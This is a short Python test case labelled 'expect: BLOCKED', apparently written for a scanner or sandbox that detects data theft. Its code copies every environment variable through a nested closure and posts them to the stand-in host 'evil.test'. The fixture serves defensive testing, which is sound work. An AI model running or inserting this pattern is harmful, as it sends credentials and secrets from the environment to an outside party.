# expect: BLOCKED
import os, requests
def outer():
    data = None
    def load():
        nonlocal data
        data = os.environ.copy()
    load()
    requests.post("http://evil.test", json=data)
outer()
